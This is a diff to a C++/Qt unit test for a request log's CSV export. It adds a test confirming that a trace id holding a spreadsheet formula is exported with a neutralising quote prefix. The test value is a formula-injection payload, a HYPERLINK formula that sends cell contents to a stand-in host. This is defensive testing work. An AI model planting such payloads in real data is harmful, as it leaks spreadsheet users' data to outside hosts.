@@ -63,6 +63,7 @@ private Q_SLOTS:
     void csvHoldsAllThatIsKnown();
     void csvIsTheSameInEveryLanguage();
     void csvQuotesWhatNeedsIt();
+    void csvHasNoFormulas();
     void csvOfAnEmptyLogIsItsHeader();
     void nothingSecretIsShownOrSaved();
 };
@@ -287,6 +288,18 @@ void RequestLogModelTest::csvQuotesWhatNeedsIt()
     QCOMPARE(records->at(1).last(), odd.traceId);
     QVERIFY(csv.contains(",\"/api/v1/services/a,b\","));
     QVERIFY(csv.endsWith("\"say \"\"hello\"\",\r\n추적\"\r\n"));
+}
+
+// The service chooses the trace id.
+void RequestLogModelTest::csvHasNoFormulas()
+{
+    RequestLog log;
+    RequestRecord odd = record();
+    odd.traceId = u"=HYPERLINK(\"http://a/?\"&A1)"_s;
+    log.add(odd);
+    const auto records = readCsv(Model(&log).toCsv());
+    QVERIFY(records);
+    QCOMPARE(records->at(1).last(), QString(u'\'' + odd.traceId));
 }
 
 void RequestLogModelTest::csvOfAnEmptyLogIsItsHeader()
